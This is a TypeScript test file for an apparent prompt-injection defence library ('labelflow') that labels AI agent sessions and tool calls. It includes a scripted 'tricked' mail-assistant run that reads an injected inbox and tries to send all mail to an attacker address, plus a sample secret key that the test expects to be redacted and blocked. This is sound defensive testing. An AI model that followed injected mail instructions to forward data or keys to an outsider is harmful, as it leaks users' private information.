import { ToolLoopAgent, generateText, isStepCount, streamText, tool } from 'ai';
import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import { labelflow } from './index.js';
import { ATTACKER, INBOX, MAIL_METADATA, eventLog, mailTools, type MailLog } from './testing/mail-fixture.js';
import { scriptedModel, text, toolCall } from './testing/scripted-model.js';

// Two runs that would reach opposite decisions if they shared labels: the honest user names the address
// itself; the tricked run only saw it in the injected inbox. Both scripts use the same tool call ids.
const HONEST_PROMPT = `Tell ${ATTACKER} that the audit is booked`;
const TRICKED_PROMPT = 'Summarise my unread mail for rita@corp.io';
const HONEST = [[toolCall('c1', 'slowNote', {})], [toolCall('c2', 'sendEmail', { to: ATTACKER, body: 'The audit is booked.' })], [text('done')]];
const TRICKED = [[toolCall('c1', 'readEmail', {})], [toolCall('c2', 'sendEmail', { to: ATTACKER, body: 'all mail' })], [text('done')]];

function tools(log: MailLog) {
  const slowNote = tool({ inputSchema: z.object({}), execute: async () => new Promise((resolve) => setTimeout(() => resolve('noted'), 15)) });
  return { ...mailTools(log), slowNote };
}

const METADATA = { ...MAIL_METADATA, slowNote: { labels: [], output: { labels: ['trusted'] } } };

describe('createRunRegistry', () => {
  describe('concurrent runs', () => {
    it.each([
      ['generateText', async (lf: ReturnType<typeof labelflow>, script: typeof HONEST, prompt: string, log: MailLog) => {
        const result = await generateText({ model: lf.model(scriptedModel(script)), tools: lf.tools(tools(log)), toolApproval: lf.toolApproval, prompt, stopWhen: isStepCount(5) });
        return result.steps.map((step) => step.providerMetadata?.['labelflow']);
      }],
      ['streamText', async (lf: ReturnType<typeof labelflow>, script: typeof HONEST, prompt: string, log: MailLog) => {
        const result = streamText({ model: lf.model(scriptedModel(script, { chunkDelayInMs: 1 })), tools: lf.tools(tools(log)), toolApproval: lf.toolApproval, prompt, stopWhen: isStepCount(5) });
        return (await result.steps).map((step) => step.providerMetadata?.['labelflow']);
      }],
    ])('should keep concurrent %s calls in separate sessions, even with the same tool call ids', async (_, run) => {
      const audit = eventLog();
      const lf = labelflow({ policy: {}, tools: METADATA, onEvent: audit.onEvent });
      const honestLog: MailLog = { sent: [], reads: [] };
      const trickedLog: MailLog = { sent: [], reads: [] };

      const [honest, tricked] = await Promise.all([run(lf, HONEST, HONEST_PROMPT, honestLog), run(lf, TRICKED, TRICKED_PROMPT, trickedLog)]);

      expect(honestLog.sent.map((mail) => mail.to)).toEqual([ATTACKER]);
      expect(trickedLog.sent).toEqual([]);
      // Shared labels would flip these: the honest run never saw the inbox; the tricked run did after step 0.
      expect(honest.slice(0, 2).map((labels) => (labels as { influenced: boolean }).influenced)).toEqual([false, false]);
      expect(tricked.slice(0, 2).map((labels) => (labels as { influenced: boolean }).influenced)).toEqual([false, true]);
      const sessions = new Set(audit.events.map((event) => event.sessionId));
      expect(sessions.size).toBe(2);
      expect(audit.decisions().sort()).toEqual(['readEmail:allow', 'sendEmail:allow', 'sendEmail:deny:no-send-to-unknown', 'slowNote:allow']);
    });

    it('should give each generate() of one ToolLoopAgent its own session', async () => {
      const lf = labelflow({ policy: {}, tools: METADATA });
      const honestLog: MailLog = { sent: [], reads: [] };
      const trickedLog: MailLog = { sent: [], reads: [] };
      const agent = (script: typeof HONEST, log: MailLog) => new ToolLoopAgent({ model: lf.model(scriptedModel(script)), tools: lf.tools(tools(log)), toolApproval: lf.toolApproval, instructions: 'You are a mail assistant.' });
      const honestAgent = agent(HONEST, honestLog);
      const trickedAgent = agent(TRICKED, trickedLog);

      const [honest, tricked] = await Promise.all([honestAgent.generate({ prompt: HONEST_PROMPT }), trickedAgent.generate({ prompt: TRICKED_PROMPT })]);

      expect(honestLog.sent).toHaveLength(1);
      expect(trickedLog.sent).toEqual([]);
      expect(tricked.steps[1]?.content).toContainEqual(expect.objectContaining({ type: 'tool-approval-response', approved: false }));
      expect(tricked.text).toBe('done');
      expect(honest.steps[0]?.providerMetadata?.['labelflow']).not.toEqual(tricked.steps[0]?.providerMetadata?.['labelflow']);
    });

    it('should refuse, not guess, when two runs make a call with the same id and nothing else tells them apart', async () => {
      const lf = labelflow({ policy: {}, tools: METADATA });
      const logs: MailLog[] = [{ sent: [], reads: [] }, { sent: [], reads: [] }];
      let arrived = 0;
      let release: () => void = () => undefined;
      const bothArrived = new Promise<void>((resolve) => {
        release = resolve;
      });
      // Both runs reach tool execution before either executes: the SDK awaits this callback first.
      const barrier = async () => {
        arrived += 1;
        if (arrived === 2) release();
        await bothArrived;
      };
      const script = [[toolCall('c1', 'sendEmail', { to: 'rita@corp.io', body: 'hi' })], [text('done')]];
      const runs = logs.map((log) => generateText({ model: lf.model(scriptedModel(script)), tools: lf.tools(mailTools(log)), prompt: 'Say hi to rita@corp.io', stopWhen: isStepCount(3), onToolExecutionStart: barrier }));

      const results = await Promise.all(runs);

      expect(logs.flatMap((log) => log.sent)).toEqual([]);
      const outputs = results.flatMap((result) => result.steps[0]?.toolResults ?? []).map((part) => part.output);
      expect(outputs).toEqual([0, 1].map(() => expect.objectContaining({ error: 'policy_denied', rule: 'labelflow', reason: expect.stringContaining('same tool call id') })));
    });
  });

  describe('explicit sessions', () => {
    it('should use the session of lf.run for every call inside it, with the secrets the app registered', async () => {
      const apiKey = 'sk-live-51HxQ2bT9zLmN4vR';
      const lf = labelflow({ policy: {}, tools: { ...MAIL_METADATA, readNotes: { labels: [], output: { labels: ['trusted'] } } } });
      const readNotes = tool({ inputSchema: z.object({}), execute: async () => `deploy key: ${apiKey}` });
      const log: MailLog = { sent: [], reads: [] };
      const ids = await lf.run(async (session) => {
        session.secret(apiKey);
        const first = await generateText({ model: lf.model(scriptedModel([[toolCall('c1', 'readNotes', {})]])), tools: lf.tools({ readNotes }), toolApproval: lf.toolApproval, prompt: 'Read my notes', stopWhen: isStepCount(3) });
        const model = scriptedModel([[toolCall('c2', 'readEmail', {})], [toolCall('c3', 'sendEmail', { to: 'rita@corp.io', body: 'key «secret:1»' })]]);
        const second = await generateText({ model: lf.model(model), tools: lf.tools(mailTools(log)), toolApproval: lf.toolApproval, prompt: 'Send rita@corp.io my key', stopWhen: isStepCount(4) });
        expect(first.steps[0]?.toolResults[0]?.output).toBe('deploy key: «secret:1»');
        expect(session.tools.history.map((entry) => `${entry.tool}:${entry.decision}`)).toEqual(['readNotes:allow', 'readEmail:allow', 'sendEmail:deny']);
        return [first, second].map((result) => (result.steps[0]?.providerMetadata?.['labelflow'] as { session: string }).session).concat(session.id);
      });
      expect(new Set(ids).size).toBe(1);
      expect(log.sent).toEqual([]);
      expect(INBOX).toHaveLength(2);
    });
  });
});
